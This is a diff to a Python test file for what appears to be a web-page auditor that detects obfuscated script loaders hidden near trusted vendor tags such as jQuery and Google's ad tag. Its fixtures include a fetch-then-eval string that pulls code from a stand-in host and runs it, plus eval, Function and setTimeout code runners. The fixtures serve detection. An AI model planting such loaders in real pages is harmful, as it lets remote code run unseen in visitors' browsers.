@@ -639,7 +639,8 @@ def test_json_nested_past_the_parsers_depth_is_no_crash() -> None:
 _FETCH_EVAL = "fetch('https://cdn.fresh-metrics.test/p').then(r=>r.text()).then(t=>eval(t))"
 
 
-@pytest.mark.parametrize("run", ["eval(d.code)", "(new Function(d.code))()", "setTimeout(d.code,9)"])
+@pytest.mark.parametrize("run", ["eval(d.code)", "(new Function(d.code))()",
+                                 "setTimeout(d.code,9)"])
 def test_code_carried_in_base64_json_is_code(run: str, audit_html: AuditHtml) -> None:
     """JSON whose string is code that the visible code runs (`eval(d.code)`) hides code
     as base64 code does: medium, as before base64 JSON was read as data."""
@@ -648,3 +649,26 @@ def test_code_carried_in_base64_json_is_code(run: str, audit_html: AuditHtml) ->
     assert [s for s, _ in _obfuscated(audit_html(html, url=URL))] == [M]
     assert not is_data(json.dumps({"code": _FETCH_EVAL}))
     assert is_data(json.dumps({"type": "location", "u": "https://x.test/a"}))
+
+
+_GPT = '<script async src="https://securepubads.g.doubleclick.net/tag/js/gpt.js"></script>'
+
+
+@pytest.mark.parametrize(("what", "html", "most"), [
+    ("an injected table under the page's jQuery tag, naming it", page(
+        _JQUERY + "\n" + _table_loader(_FRESH, "code.jquery.com")), H),
+    ("an injected table under GPT's tag, naming it", page(
+        _GPT + "\n" + _table_loader(_FRESH, "securepubads.g.doubleclick.net")), H),
+    ("an injected loader of jQuery's URL and a fresh host, under jQuery's tag", page(
+        _JQUERY + admiral(["https://code.jquery.com/jquery-3.7.1.min.js", _FRESH])), H),
+    # a catalogued vendor's fallback to its own hosts is one still
+    ("obfuscated code loading only the jQuery tag's URL again", page(
+        _JQUERY + _table_loader("https://code.jquery.com/jquery-3.7.1.min.js")), M),
+], ids=lambda v: v if isinstance(v, str) and len(v) < 90 else "")
+def test_a_catalogued_loader_vouches_for_no_other_hosts(what: str, html: str, most: Severity,
+                                                        audit_html: AuditHtml) -> None:
+    """A vendor whose hosts rotate (Admiral, Ad-Shield) is in no catalogue: a loader the
+    catalogue files under a company is the fallback only of code loading that company's
+    hosts. Obfuscated code pasted within two lines of the page's jQuery or GPT tag that
+    names it and loads a fresh host was medium, as a vendor's fallback."""
+    assert [s for s, _ in _obfuscated(audit_html(html, url=URL))] == [most]
